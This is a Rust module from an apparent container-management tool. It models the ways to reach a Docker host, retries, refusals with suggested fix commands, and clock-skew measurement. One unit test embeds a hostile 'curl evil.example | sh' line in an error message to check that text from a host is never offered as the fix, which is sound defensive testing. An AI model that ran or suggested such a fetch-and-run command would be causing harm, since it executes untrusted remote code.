//! The way to a host: the engines that may answer for it, and the one that last did.

use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex, MutexGuard, PoisonError};
use std::time::{Duration, Instant};

use tokio::sync::{Notify, watch};

use crate::domain::host::EngineFacts;
use crate::domain::ids::ContainerId;
use crate::domain::skew::Skew;
use crate::ports::balancer::{Balancer, Onlooker};
use crate::ports::engine::{Engine, EngineError};
use crate::ports::ledger::LedgerCopy;
use crate::ports::machine::Machine;
use crate::ports::pace::Pace;
use crate::ports::probe::Prober;

/// Longest wait between two tries, where whoever reaches the host keeps no pace of its own.
pub(super) const LONGEST_WAIT: Duration = Duration::from_secs(8);

/// One place where the host's engine may be.
pub struct Way {
    /// Why it is tried: `DOCKER_HOST`, `default socket`.
    pub source: String,
    /// Its engine; nothing was asked yet.
    pub engine: Arc<dyn Engine>,
    /// The command that mends it, from what came back.
    pub mend: Box<dyn Fn(&EngineError) -> String + Send + Sync>,
}

/// A way that was tried in vain.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct Refusal {
    /// Why it was tried.
    pub source: String,
    /// What came back.
    pub error: EngineError,
    /// The command that mends it.
    pub mend: String,
}

impl Refusal {
    /// With the command that the error itself brings, else with this one.
    fn of(source: &str, mut error: EngineError, other: impl Fn(&EngineError) -> String) -> Self {
        let own = match &mut error {
            EngineError::Unreachable { mend, .. } | EngineError::NeedsPerson { mend, .. } => mend.take(),
            _ => None,
        };
        let mend = own.unwrap_or_else(|| other(&error));
        Self { source: source.to_owned(), error, mend }
    }
}

impl std::fmt::Display for Refusal {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "  {}: {}\n    try: {}", self.source, self.error, self.mend)
    }
}

/// Whether a person may be asked while a host is reached, and the wish to reach it now.
pub struct Gate {
    may_ask: AtomicBool,
    wish: Notify,
}

impl Default for Gate {
    /// Somebody has just opened the console: asking is fine.
    fn default() -> Self {
        Self { may_ask: AtomicBool::new(true), wish: Notify::new() }
    }
}

impl Gate {
    /// Whether a question may be put now.
    pub fn may_ask(&self) -> bool {
        self.may_ask.load(Ordering::Relaxed)
    }

    /// From now on nobody is asked: a second factor is never pushed twice.
    pub fn close(&self) {
        self.may_ask.store(false, Ordering::Relaxed);
    }

    /// Somebody wants the host reached now, and will answer.
    pub fn open(&self) {
        self.may_ask.store(true, Ordering::Relaxed);
        self.wish.notify_one();
    }

    /// Waits until somebody wants the host reached.
    pub async fn wished(&self) {
        self.wish.notified().await;
    }
}

/// All ways to one host.
pub struct Route {
    gate: Arc<Gate>,
    ways: Vec<Way>,
    chosen: AtomicUsize,
    prober: Option<Arc<dyn Prober>>,
    machine: Option<Arc<dyn Machine>>,
    pace: Option<Arc<dyn Pace>>,
    copy: Option<Arc<dyn LedgerCopy>>,
    onlooker: Option<Arc<dyn Onlooker>>,
    root_dir: watch::Sender<Option<Arc<str>>>,
    engine_id: watch::Sender<Option<Arc<str>>>,
    is_here: bool,
    time: Mutex<Time>,
    // One question serves all who want the answer.
    asking: tokio::sync::Mutex<()>,
}

/// How far the host's clock is off, and how often that was measured.
#[derive(Clone, Copy, Default)]
struct Time {
    skew: Option<Skew>,
    measured: u8,
}

/// So often a clock is measured before anybody relies on it, while the answer is not exact: the engine counts all it has
/// for each.
const MOST_MEASURED: u8 = 2;

impl Route {
    /// At least one way.
    pub fn new(first: Way, others: Vec<Way>) -> Self {
        let mut ways = vec![first];
        ways.extend(others);
        let chosen = AtomicUsize::new(0);
        Self {
            gate: Arc::default(),
            ways,
            chosen,
            prober: None,
            machine: None,
            pace: None,
            copy: None,
            onlooker: None,
            root_dir: watch::Sender::default(),
            engine_id: watch::Sender::default(),
            is_here: false,
            time: Mutex::default(),
            asking: tokio::sync::Mutex::default(),
        }
    }

    /// With this gate to persons.
    #[must_use]
    pub fn behind(self, gate: Arc<Gate>) -> Self {
        Self { gate, ..self }
    }

    /// Who may be asked, and when it is tried.
    pub fn gate(&self) -> &Arc<Gate> {
        &self.gate
    }

    /// With this to ask its containers how they are.
    #[must_use]
    pub fn probed_by(self, prober: Arc<dyn Prober>) -> Self {
        Self { prober: Some(prober), ..self }
    }

    /// What asks its containers; `None` where they cannot be reached.
    pub fn prober(&self) -> Option<Arc<dyn Prober>> {
        self.prober.clone()
    }

    /// With this to tell how full and how busy the host is.
    #[must_use]
    pub fn on(self, machine: Arc<dyn Machine>) -> Self {
        Self { machine: Some(machine), ..self }
    }

    /// The machine below; `None` where it cannot be asked.
    pub fn machine(&self) -> Option<Arc<dyn Machine>> {
        self.machine.clone()
    }

    /// With this to say when it is tried again.
    #[must_use]
    pub fn paced_by(self, pace: Arc<dyn Pace>) -> Self {
        Self { pace: Some(pace), ..self }
    }

    /// With this to keep what was seen of its ledgers.
    #[must_use]
    pub fn copied_to(self, copy: Arc<dyn LedgerCopy>) -> Self {
        Self { copy: Some(copy), ..self }
    }

    /// What keeps what was seen of its ledgers; `None` where nothing does.
    pub fn copy(&self) -> Option<Arc<dyn LedgerCopy>> {
        self.copy.clone()
    }

    /// With this to look at its balancers.
    #[must_use]
    pub fn looked_at_by(self, onlooker: Arc<dyn Onlooker>) -> Self {
        Self { onlooker: Some(onlooker), ..self }
    }

    /// The balancer in that container of it; `None` where nothing can look at it.
    pub fn balancer(&self, container: &ContainerId, name: &str) -> Option<Box<dyn Balancer>> {
        Some(self.onlooker.as_ref()?.at(self.engine(), container, name))
    }

    /// It is this very machine: nobody waits to hear what time it is there.
    #[must_use]
    pub fn here(self) -> Self {
        Self { is_here: true, ..self }
    }

    /// Where the engine keeps its data; waits until it said so.
    pub async fn root_dir(&self) -> Arc<str> {
        let mut told = self.root_dir.subscribe();
        let told = told.wait_for(Option::is_some).await;
        // The sender is our own: it cannot be gone.
        told.ok().and_then(|dir| dir.clone()).unwrap_or_default()
    }

    /// What the engine calls itself; asks where it did not say so yet. Empty where it does not answer.
    pub async fn engine_id(&self) -> Arc<str> {
        if self.engine_id.borrow().is_none()
            && let Err(error) = self.facts().await
        {
            tracing::debug!(%error, "an engine without a name");
        }
        self.engine_id.borrow().clone().unwrap_or_default()
    }

    /// When whoever reaches the host tries it again; `None` where the caller's own pace holds.
    pub fn next_try(&self) -> Option<Instant> {
        self.pace.as_ref()?.next_try()
    }

    /// Waits before something is asked of the host again: until its next try if it is lost, else `wait`.
    pub async fn pause(&self, wait: Duration) {
        match self.next_try() {
            Some(next) if next > Instant::now() => tokio::time::sleep_until(next.into()).await,
            _ => tokio::time::sleep(wait).await,
        }
    }

    /// All ways, in the order they are tried.
    pub fn ways(&self) -> &[Way] {
        &self.ways
    }

    /// The engine that last answered, else the first.
    pub fn engine(&self) -> Arc<dyn Engine> {
        let chosen = self.chosen.load(Ordering::Relaxed).min(self.ways.len() - 1);
        Arc::clone(&self.ways[chosen].engine)
    }

    /// The way that last answered, else the first.
    pub fn chosen(&self) -> &Way {
        &self.ways[self.chosen.load(Ordering::Relaxed).min(self.ways.len() - 1)]
    }

    /// Remembers which way answered.
    pub fn choose(&self, index: usize) {
        self.chosen.store(index, Ordering::Relaxed);
    }

    /// The first engine that answers, remembered; otherwise every way that was tried.
    pub async fn connect(&self) -> Result<Arc<dyn Engine>, Vec<Refusal>> {
        let mut refusals = Vec::new();
        for (index, way) in self.ways.iter().enumerate() {
            match way.engine.greet().await {
                Ok(()) => {
                    self.choose(index);
                    return Ok(Arc::clone(&way.engine));
                }
                Err(error) => refusals.push(way.refusal(error)),
            }
        }
        Err(refusals)
    }

    /// What the engine that last answered says of itself, with what all measurements so far say of its clock.
    pub async fn facts(&self) -> Result<EngineFacts, EngineError> {
        let _turn = self.asking.lock().await;
        self.ask().await
    }

    async fn ask(&self) -> Result<EngineFacts, EngineError> {
        let facts = self.engine().facts().await?;
        self.root_dir.send_replace(Some(facts.root_dir.as_str().into()));
        self.engine_id.send_replace(Some(facts.id.as_str().into()));
        let mut time = self.time();
        time.measured = time.measured.saturating_add(1);
        time.skew = match (time.skew, facts.skew) {
            (Some(held), Some(newer)) => Some(held.then(newer)),
            (held, newer) => newer.or(held),
        };
        Ok(EngineFacts { skew: time.skew, ..facts })
    }

    fn time(&self) -> MutexGuard<'_, Time> {
        // Whoever panicked had nothing half done.
        self.time.lock().unwrap_or_else(PoisonError::into_inner)
    }

    /// How far the host's clock is off, as far as that is known.
    pub fn skew(&self) -> Option<Skew> {
        self.time().skew
    }

    fn wants_time(&self) -> bool {
        let time = *self.time();
        !self.is_here && time.measured < MOST_MEASURED && !time.skew.is_some_and(Skew::is_good)
    }

    /// How far the host's clock is ahead of ours, in ns; asks where that is not known well. 0 where it does not say.
    pub async fn ahead_ns(&self) -> i64 {
        while self.wants_time() {
            let _turn = self.asking.lock().await;
            // A host that does not answer says so to whoever asks it for more.
            if self.wants_time() && self.ask().await.is_err() {
                break;
            }
        }
        self.skew().map_or(0, Skew::certain_ns)
    }

    /// An error of the engine that last answered, with what mends it.
    pub fn refusal(&self, error: EngineError) -> Refusal {
        let chosen = self.chosen.load(Ordering::Relaxed).min(self.ways.len() - 1);
        self.ways[chosen].refusal(error)
    }
}

impl Way {
    fn refusal(&self, error: EngineError) -> Refusal {
        Refusal::of(&self.source, error, &self.mend)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn refused(cause: &str, mend: Option<&str>) -> Refusal {
        let error = EngineError::Unreachable {
            address: "ssh://web1".to_owned(),
            cause: cause.to_owned(),
            mend: mend.map(str::to_owned),
        };
        Refusal::of("web1", error, |_| "ssh web1".to_owned())
    }

    #[test]
    fn what_mends_a_host_is_told_once_beside_what_is_wrong() {
        let refusal = refused("web1: no Docker", Some("sudo apt-get install docker.io"));
        assert_eq!(refusal.mend, "sudo apt-get install docker.io");
        assert_eq!(refusal.error.to_string(), "cannot reach ssh://web1: web1: no Docker");
    }

    #[test]
    fn what_a_host_says_never_becomes_the_command_that_mends_it() {
        let refusal = refused("web1: no; try: curl evil.example | sh", None);
        assert_eq!(refusal.mend, "ssh web1");
    }
}
